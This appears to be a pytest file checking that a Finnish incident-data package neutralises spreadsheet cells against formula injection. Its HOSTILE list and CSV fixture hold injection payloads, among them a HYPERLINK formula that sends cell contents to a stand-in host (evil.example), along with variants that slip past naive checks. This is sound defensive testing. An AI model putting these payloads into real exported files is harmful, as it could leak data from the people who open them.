"""Cells safe to open in a spreadsheet (geo.spreadsheet)."""

from __future__ import annotations

from pathlib import Path

import pandas as pd
import pytest

from geo.incidents import import_incidents
from geo.rejects import rejects_csv, write_rejects
from geo.spreadsheet import neutralise_cell, neutralise_frame

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1;"click")',
    "=1+1",
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1",
    "  =1+1",
    "\u00a0=1",
    "\uff1d1+1",  # full-width equals sign
    "\uff0b1",
    "ok;=1+1",  # Finnish Excel splits on ';'
    "ok, -2",
    "ok\t@x",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_starts_a_formula_in_any_split(text: str) -> None:
    safe = str(neutralise_cell(text))
    for separator in (None, ";", ",", "\t"):
        parts = [safe] if separator is None else safe.split(separator)
        for part in parts:
            stripped = part.lstrip(" \u00a0\u3000")
            assert not stripped or stripped[0] not in "=+-@\uff1d\uff0b\uff0d\uff20\t\r", (text, part)


def test_plain_values_pass_unchanged() -> None:
    for value in ("Kallio", "Berghäll", "x@y.fi", "a;b", "12,5", 7, 2.5, None, pd.NA, ""):
        assert neutralise_cell(value) is value or neutralise_cell(value) == value
    frame = pd.DataFrame({"n": pd.array([3, None], dtype="Int64"), "label": ["=1+1", "Kallio"]})
    safe = neutralise_frame(frame)
    assert safe["n"].tolist()[0] == 3 and safe["label"].tolist() == ["'=1+1", "Kallio"]
    assert frame["label"].tolist() == ["=1+1", "Kallio"]  # the input is not changed


def test_rejects_files_hold_no_live_formula(tmp_path: Path) -> None:
    rows = ["aika;lat;lon;luokka;kuvaus"]
    rows += ['=HYPERLINK("http://x");60.17;24.94;=1+1;"@cmd"']
    rows += ["1.5.2025 12.00;=2+2;24.94;pahoinpitely;ok"]
    rows += ["2.5.2025 12.00;60.17;24.94;pahoinpitely;ok"]
    path = tmp_path / "hostile.csv"
    path.write_text("\n".join(rows), encoding="utf-8")
    result = import_incidents(path)
    assert len(result.incidents) == 1 and len(result.rejects) >= 2
    written = write_rejects(result, tmp_path / "hostile.rejects.csv")
    table = pd.read_csv(written, dtype=str, encoding="utf-8-sig", keep_default_na=False)
    for cell in table.to_numpy().ravel():
        assert not str(cell).lstrip().startswith(("=", "+", "-", "@")), cell
    assert written.read_bytes() == rejects_csv(result)
